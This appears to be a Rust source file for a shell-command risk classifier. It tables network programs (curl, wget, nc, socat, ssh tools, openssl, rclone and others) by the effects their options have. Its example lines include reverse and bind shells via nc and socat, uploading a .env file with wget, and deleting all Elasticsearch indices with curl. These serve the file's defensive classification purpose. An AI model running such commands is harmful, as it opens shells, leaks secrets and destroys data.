//! Programs that reach the network.

use super::Does::{self, Connect, Create, Listen, Opaque};
use super::Harm;
use super::table::{
    APPEND, CODE_FILE, DASH, EDIT, EXACT, EXACT_STOP, GNU, NONE, NOTHING, OBEY, OPAQUE, PUT,
    Program, READ, RUN, Rest, TEXT, Use, WRITE, act, always, both, each, flag, glued, rest, skip,
    sub, then, val, when,
};

const URL: Use = Use::Url;
const AT_FILE: Use = Use::AtFile;

pub(super) const TABLE: &[Program] = &[
    Program {
        names: "curl",
        options: &[
            val(
                "-o --output -D --dump-header -c --cookie-jar --trace --trace-ascii --stderr",
                WRITE,
            ),
            val("--libcurl --etag-save --alt-svc --hsts", WRITE),
            val("--output-dir", PUT),
            act("-O --remote-name --remote-name-all", Create),
            val("-T --upload-file", READ),
            val("-d --data --data-ascii --data-binary --data-urlencode --json", AT_FILE),
            val("-F --form", Use::FormFile),
            val("-b --cookie", NOTHING),
            val("-H --header", AT_FILE),
            val("-K --config", OBEY),
            val("--engine", CODE_FILE),
            val("--url", URL),
            val("-x --proxy --preproxy --socks5 --socks4 --socks5-hostname --doh-url", URL),
            val("--unix-socket --abstract-unix-socket", Use::Is(Connect)),
            val("-E --cert --key --cacert --capath --netrc-file --etag-compare --crlfile", READ),
            val("-X --request", Use::Method),
            skip("-A -C -e -m -P -Q -r -t -u -U -w -y -Y -z --connect-timeout --max-time --retry"),
            skip(
                "--retry-delay --retry-max-time --user-agent --user --referer --range --write-out",
            ),
            skip("--resolve --connect-to --interface --limit-rate --max-redirs --ciphers --proto"),
            skip(
                "--cert-type --continue-at --max-filesize --oauth2-bearer --form-string --data-raw",
            ),
            skip("--tls-max --noproxy --expect100-timeout --request-target --aws-sigv4"),
        ],
        shape: each(URL),
        tells: "--help --version -V -h -M --manual",
        examples: &[
            "curl --version => ",
            "curl -V => ",
            "curl -s http://u@h.example:4/x => connect h.example",
            "curl file:///etc/x => read /etc/x",
            "curl -fsSLo x h.example => overwrite x, connect h.example",
            "curl -d @f -K c h => read f, obey c, connect h",
            "curl -F a=@f;type=x h => read f, connect h",
            "curl -XDELETE http://localhost:9200/_all => catastrophe Store DELETE, connect \
             localhost",
            "curl --engine ./e h => code-file ./e, connect h",
        ],
        ..EXACT
    },
    Program {
        names: "wget wget2",
        options: &[
            val("-O --output-document -o --output-file --save-cookies --warc-file", WRITE),
            val("-a --append-output", APPEND),
            val("-P --directory-prefix", PUT),
            val("--post-file --body-file --load-cookies --ca-certificate --certificate", READ),
            val("-i --input-file", READ),
            val("--config", OBEY),
            val("--use-askpass", RUN),
            val("-e --execute", OPAQUE),
            skip("-t -T -w -Q -l -A -R -D -I -X -U -n --tries --timeout --wait --quota --level"),
            skip(
                "--header --user --password --user-agent --post-data --method --limit-rate \
                 --referer",
            ),
            skip("--accept --reject --domains --body-data --cut-dirs --max-redirect"),
        ],
        shape: each(URL).always(&[Create]),
        when: &[when("-O --output-document --spider", each(URL))],
        tells: "--help --version -V -h",
        examples: &[
            "wget -qO- h.example/x => connect h.example",
            "wget http://h/x => create, connect h",
            "wget --post-file=.env -O x h => read .env, overwrite x, connect h",
            "wget --use-askpass=./e h => create, run-program ./e, connect h",
        ],
        ..GNU
    },
    Program {
        names: "http https xh xhs httpie",
        options: &[val("-o --output", WRITE), skip("-a --auth --session --timeout -A --auth-type")],
        shape: each(NOTHING).always(&[Connect]),
        examples: &["http GET h.example => connect"],
        ..EXACT
    },
    Program {
        names: "fetch aria2c axel lynx w3m links elinks",
        options: &[
            val("-o --output -O", WRITE),
            val("-d --dir", PUT),
            val("-i --input-file -cfg", READ),
            val("--on-download-complete --on-download-start --on-download-error", RUN),
        ],
        shape: each(URL),
        examples: &["fetch -o - https://h.example/x => connect h.example"],
        ..EXACT
    },
    Program {
        names: "nc ncat netcat",
        options: &[
            val("-e --exec -c --sh-exec", TEXT),
            val("-o --output --hex-dump", WRITE),
            val("--lua-exec", CODE_FILE),
            val("-U", NOTHING),
            skip("-i -p -q -s -w -x -X -T -I -O -V -g -G --source --source-port --proxy --wait"),
        ],
        shape: then(&[URL], NOTHING),
        when: &[when("-l --listen", always(&[Listen]))],
        tells: "--help --version -h",
        examples: &[
            "nc -e /bin/sh h 80 => text /bin/sh, connect h",
            "nc -l -p 80 => listen",
            "nc -lvp 80 -e sh => listen, text sh",
        ],
        ..EXACT
    },
    Program {
        names: "socat",
        options: &[val("-lf", WRITE), skip("-b -t -T -W -L -S")],
        shape: each(Use::Socat),
        tells: "-V -h -hh",
        examples: &[
            "socat - EXEC:'touch x' => text 'touch x'",
            "socat - TCP:h.example:80 => connect h.example",
            "socat tcp-listen:80,fork exec:/bin/sh,pty => listen, text /bin/sh",
            "socat -u file:/etc/x - => read /etc/x",
        ],
        ..EXACT
    },
    Program {
        names: "telnet ftp lftp tftp rlogin rsh",
        options: &[val("-e -c", TEXT), val("-f", OBEY), skip("-l -n -p -u -P")],
        shape: then(&[URL], NOTHING).always(&[]).alone(&[Opaque]),
        examples: &["telnet h 80 => connect h", "ftp => opaque"],
        ..EXACT
    },
    Program {
        names: "sftp",
        options: &[
            val("-o", Use::SshOption),
            val("-b", READ),
            val("-F", OBEY),
            val("-S", RUN),
            val("-D", TEXT),
            val("-i", READ),
            val("-J", URL),
            skip("-B -c -l -P -R -s -X"),
        ],
        shape: then(&[URL], EDIT),
        examples: &["sftp -oProxyCommand=./e u@h => text ./e, connect h"],
        ..EXACT
    },
    Program {
        names: "scp",
        options: &[
            val("-S -D", RUN),
            val("-o", Use::SshOption),
            val("-F", OBEY),
            val("-i", READ),
            val("-J", URL),
            skip("-c -l -P -X"),
        ],
        shape: super::table::to(Use::Place(Does::ReadTree), &[Use::Place(Does::PutAt)]),
        examples: &[
            "scp a b => read-tree a, put b",
            "scp u@h:/x . => connect h, put .",
            "scp -S ./e a h: => run-program ./e, read-tree a, connect h",
        ],
        ..EXACT
    },
    Program {
        names: "ssh-keygen",
        options: &[
            val("-f", EDIT),
            val("-D", CODE_FILE),
            val("-s -K -T -I", READ),
            skip("-b -C -m -N -n -O -P -t -V -Y -z -E -a"),
        ],
        shape: each(READ).always(&[Create]),
        when: &[
            both("-l", "-f", NONE),
            when("-l -B -y -F -e -i -L", each(READ)),
            when("-f", each(READ)),
        ],
        examples: &["ssh-keygen -t ed25519 => create", "ssh-keygen -f k -N '' => edit k"],
        ..EXACT
    },
    Program {
        names: "ssh-copy-id ssh-add ssh-keyscan",
        options: &[val("-f -i -s", READ), val("-o", Use::SshOption), skip("-p -t -T -E -H -a")],
        shape: each(NOTHING).always(&[Connect]),
        when: &[when("-l -L -k", NONE)],
        examples: &["ssh-keyscan h => connect", "ssh-add -l => "],
        ..EXACT
    },
    Program {
        names: "ssh-agent",
        options: &[skip("-a -E -O -P -t")],
        shape: rest(&[], Rest::Command),
        examples: &["ssh-agent -s => ", "ssh-agent rm x => run [rm x]"],
        ..EXACT_STOP
    },
    Program {
        names: "ab wrk hey siege bombardier oha iperf iperf3 ntpdate sshfs smbclient ldapsearch \
            ldapmodify mail mailx mutt sendmail msmtp swaks youtube-dl yt-dlp gallery-dl",
        options: &[skip("-n -d -t -T -H -s -S -X -m -f -u -o -w -D -b -r -p -q -z -a")],
        shape: each(NOTHING).always(&[Connect]),
        examples: &["ab -n 10 http://h/ => connect", "mail -s x a@h => connect"],
        ..EXACT
    },
    Program {
        names: "svn",
        options: &[skip("-r -m -F --username --password --depth --limit -l")],
        subs: &[sub(
            "status st diff di add revert resolve cleanup propget pg proplist pl help mkdir mv \
             rename",
            &[],
        )],
        other: &[Connect, Does::Edit],
        examples: &["svn status => ", "svn co http://h/x => connect, edit"],
        ..EXACT
    },
    Program {
        names: "hg",
        options: &[skip("-R --repository -r --rev -m --message --cwd --config")],
        subs: &[sub(
            "clone pull push incoming outgoing in out id identify",
            &[Connect, Does::Edit],
        )],
        other: &[Opaque],
        examples: &["hg pull => connect, edit", "hg log => opaque"],
        ..EXACT
    },
    Program {
        names: "xdg-open open sensible-browser firefox chromium google-chrome",
        shape: each(Use::Place(Does::Read)),
        examples: &["xdg-open a.html => read a.html", "open http://h/x => connect h"],
        ..EXACT
    },
    Program {
        names: "logger",
        options: &[
            val("-n --server", URL),
            val("-f --file", READ),
            skip("-t --tag -p --priority -P --port -i --id -u --socket"),
        ],
        examples: &["logger -t x hi => ", "logger -n h hi => connect h"],
        ..GNU
    },
    Program {
        names: "ping ping6 traceroute traceroute6 tracepath mtr arping fping hping3",
        options: &[
            val("-f", NOTHING),
            skip("-c -i -I -w -W -s -t -Q -M -l -p -m --count --report-cycles"),
        ],
        shape: each(URL),
        tells: "--help --version -V -h",
        examples: &["ping -c 1 h.example => connect h.example", "ping -V => "],
        ..EXACT
    },
    Program {
        names: "dig drill kdig",
        options: &[val("-f -k", READ), skip("-b -c -p -t -y"), val("-q -x", URL)],
        shape: each(URL),
        tells: "-v -h",
        examples: &["dig h.example => connect h.example", "dig -v => ", "dig -f l => read l"],
        ..EXACT
    },
    Program {
        names: "host nslookup whois resolvectl systemd-resolve",
        options: &[skip("-t -W -p -N -R -c -m -h")],
        shape: each(URL),
        tells: "--help --version -V",
        examples: &["host h.example => connect h.example", "nslookup -type=A h => connect h"],
        ..EXACT
    },
    Program {
        names: "getent",
        shape: NONE,
        subs: &[sub("hosts ahosts ahostsv4 ahostsv6 networks", &[Connect])],
        examples: &["getent hosts h => connect", "getent passwd x => "],
        ..EXACT
    },
    Program {
        names: "nmap masscan zmap",
        options: &[
            val("-iL --excludefile --resume", READ),
            glued("-oN -oG -oX -oA -oS", WRITE),
            val("--script --script-args-file --datadir", CODE_FILE),
            skip("-p -e -S -g -D -T --top-ports --exclude --max-rate --min-rate"),
        ],
        shape: each(URL),
        examples: &["nmap -iL l => read l", "nmap -oG=x h => overwrite x, connect h"],
        ..DASH
    },
    Program {
        names: "tcpdump tshark dumpcap ngrep",
        options: &[
            val("-w", WRITE),
            val("-r -F", READ),
            val("-z", RUN),
            skip("-B -c -C -G -i -s -Z -V -T -e -Y -f -a -M"),
        ],
        shape: NONE.always(&[Listen]),
        when: &[when("-r", NONE)],
        examples: &["tcpdump -i lo -w x => listen, overwrite x"],
        ..EXACT
    },
    Program {
        names: "openssl",
        options: &[],
        subs: &[
            Program {
                names: "s_client s_server s_time ocsp ts cmp",
                options: OPENSSL,
                shape: NONE.always(&[Connect]),
                when: &[when("-help", NONE)],
                ..DASH
            },
            Program {
                names: "version list ciphers errstr speed prime help",
                options: OPENSSL,
                ..DASH
            },
            Program { names: "engine", options: OPENSSL, shape: each(CODE_FILE), ..DASH },
            Program {
                names: "dgst sha256 sha1 sha512 md5 x509 req rsa pkey genrsa genpkey ec ecparam \
                    rand enc base64 pkcs12 pkcs8 pkcs7 cms smime verify crl ca asn1parse passwd \
                    storeutl rehash kdf mac dhparam dsa rsautl pkeyutl nseq sess_id spkac \
                    aes-256-cbc aes-128-cbc pkeyparam fipsinstall crl2pkcs7 gendsa dsaparam srp \
                    info mac",
                options: OPENSSL,
                shape: each(READ),
                when: &[],
                ..DASH
            },
        ],
        other: &[Does::StdinCode(super::Language::Other)],
        shape: NONE.always(&[Does::StdinCode(super::Language::Other)]),
        examples: &[
            "openssl dgst -sha256 a => read a",
            "openssl s_client -connect h:80 => connect, connect h",
            "openssl rand -out ../x 8 => overwrite ../x, read 8",
            "openssl enc -in /x => read /x",
            "openssl req -engine ./e => code-file ./e",
            "openssl x509 -in c -noout -subject => read c",
        ],
        ..DASH
    },
    Program {
        names: "gpg gpg2 gpgv",
        options: &[
            val("-o --output", WRITE),
            val("--homedir", EDIT),
            val("--options", OBEY),
            val("--keyserver", URL),
            val("--agent-program --dirmngr-program --photo-viewer", RUN),
            act("--recv-keys --search-keys --refresh-keys --send-keys", Connect),
            act("--delete-secret-keys --delete-secret-key", Does::Catastrophe(Harm::User)),
            skip(
                "-r -u --recipient --local-user --passphrase --pinentry-mode --status-fd \
                 --cipher-algo",
            ),
        ],
        shape: each(READ),
        examples: &["gpg -o x -d y => overwrite x, read y", "gpg --recv-keys A => connect, read A"],
        ..GNU
    },
    Program {
        names: "age rage age-keygen sops minisign signify",
        options: &[
            val("-o --output", WRITE),
            val("-i -R --identity --recipients-file", READ),
            skip("-r --recipient"),
        ],
        shape: each(READ),
        when: &[when("-i --in-place", each(EDIT))],
        examples: &["age -d -o x y => overwrite x, read y"],
        ..EXACT
    },
    Program {
        names: "ngrok cloudflared localtunnel lt bore frpc",
        shape: always(&[Connect, Listen, Does::HardToTakeBack(Harm::Publish)]),
        examples: &["ngrok http 80 => connect, listen, hard Publish"],
        ..EXACT
    },
    Program {
        names: "code cursor codium subl",
        options: &[
            val("--install-extension", Use::Package),
            flag("-g --goto"),
            val("--user-data-dir --extensions-dir", EDIT),
        ],
        subs: &[sub("tunnel serve-web", &[Connect, Listen, Does::HardToTakeBack(Harm::Publish)])],
        shape: each(READ).always(&[Opaque]),
        examples: &["code tunnel => connect, listen, hard Publish", "code a => opaque, read a"],
        ..EXACT
    },
    Program {
        names: "rclone",
        options: &[val("--config --log-file", EDIT), skip("--transfers --checkers")],
        subs: &[
            Program {
                names: "ls lsd lsl lsf lsjson size version listremotes cat check",
                shape: always(&[Connect]),
                ..EXACT
            },
            Program {
                names: "copy copyto",
                shape: super::table::to(Use::Place(Does::ReadTree), &[Use::Place(Does::PutAt)]),
                ..EXACT
            },
            Program {
                names: "sync move moveto",
                shape: super::table::to(
                    Use::Place(Does::ReadTree),
                    &[Use::Place(Does::DeleteTree)],
                )
                .always(&[Does::HardToTakeBack(Harm::Remote)]),
                dry: "-n --dry-run",
                ..EXACT
            },
            Program {
                names: "delete purge cleanup rmdirs deletefile",
                shape: each(Use::Place(Does::DeleteTree))
                    .always(&[Does::Catastrophe(Harm::Remote)]),
                dry: "-n --dry-run",
                ..EXACT
            },
        ],
        other: &[Connect, Opaque],
        examples: &[
            "rclone purge r:x => catastrophe Remote, connect r",
            "rclone copy a r:x => read-tree a, connect r",
        ],
        ..EXACT
    },
];

const OPENSSL: &[super::table::Opt] = &[
    val("-out -keyout -writerand", WRITE),
    val(
        "-in -key -cert -CAfile -CApath -inkey -signature -rand -kfile -config -extfile -certfile",
        READ,
    ),
    val("-CA -CAkey -content -data -prverify -sign -untrusted -trusted", READ),
    val("-engine -provider -provider-path -loadengine", CODE_FILE),
    val("-connect -proxy -url -host", URL),
    skip("-subj -days -pass -passin -passout -newkey -keyform -inform -outform -k -K -iv -S -md"),
    skip("-servername -name -addext -pkeyopt -starttls -set_serial -port -accept -iter -algorithm"),
];
